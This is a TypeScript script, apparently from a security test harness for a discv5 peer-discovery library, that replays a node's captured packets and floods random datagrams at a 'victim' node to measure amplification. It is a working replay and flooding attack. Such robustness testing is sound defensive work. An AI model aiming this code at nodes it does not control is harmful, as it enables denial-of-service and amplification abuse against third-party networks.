import { randomBytes } from 'node:crypto';
import { generatePrivateKey } from '@status-ts/crypto';
import { Discv5Node, type PacketTransport } from '@status-ts/discv5';
import { createUdpTransport } from '@status-ts/discv5/udp';
import { Enr } from '@status-ts/enr';
import { runChild } from '../child.js';

/**
 * discv5 replays and junk (issue 18, item 8): a real node on `localAddress` opens a session with the victim
 * and sends one FINDNODE; the attack then resends every packet that node sent (the FINDNODE among them)
 * `replays` times, and `junk` random datagrams. The socket counts bytes out and bytes back, per phase: the
 * amplification the victim allows.
 */
export interface Discv5ReplayConfig {
  readonly victimEnr: string;
  readonly localAddress: string;
  readonly replays: number;
  readonly junk: number;
}

await runChild<Discv5ReplayConfig>(async ({ config, emit }) => {
  const victim = Enr.decodeText(config.victimEnr);
  const victimEndpoint = { ip: victim.ip!, port: victim.udp! };
  let socket!: PacketTransport;
  const sent: Uint8Array[] = [];
  const phase = { bytesOut: 0, bytesIn: 0, packetsIn: 0 };
  const transport = async (): Promise<PacketTransport> => {
    socket = await createUdpTransport({ ip: config.localAddress, port: 0 });
    // Records what the honest-looking node sends, and counts what comes back.
    return {
      localEndpoint: socket.localEndpoint,
      send(bytes, to) {
        sent.push(bytes.slice());
        socket.send(bytes, to);
      },
      onPacket(handler) {
        socket.onPacket((bytes, from) => {
          phase.bytesIn += bytes.length;
          phase.packetsIn++;
          handler(bytes, from);
        });
      },
      close: () => socket.close(),
    };
  };
  const node = new Discv5Node({
    privateKey: generatePrivateKey(),
    transport,
    bootstrap: [config.victimEnr],
    autoRefresh: false,
  });
  await node.start();
  await node.joined;
  await node.findNode(victim, [256, 255, 254]);
  const captured = sent.splice(0);
  const measure = async (send: () => void, count: number) => {
    Object.assign(phase, { bytesOut: 0, bytesIn: 0, packetsIn: 0 });
    for (let i = 0; i < count; i++) {
      send();
      if (i % 50 === 49) await new Promise((resolve) => setTimeout(resolve, 5));
    }
    await new Promise((resolve) => setTimeout(resolve, 1_000));
    return { ...phase };
  };
  let index = 0;
  const replay = await measure(() => {
    const packet = captured[index++ % captured.length]!;
    phase.bytesOut += packet.length;
    socket.send(packet, victimEndpoint);
  }, config.replays * captured.length);
  const junk = await measure(() => {
    const packet = randomBytes(63 + Math.floor(Math.random() * 1_200));
    phase.bytesOut += packet.length;
    socket.send(packet, victimEndpoint);
  }, config.junk);
  emit({ type: 'done', captured: captured.length, replay, junk });
  await node.stop();
  return {};
});
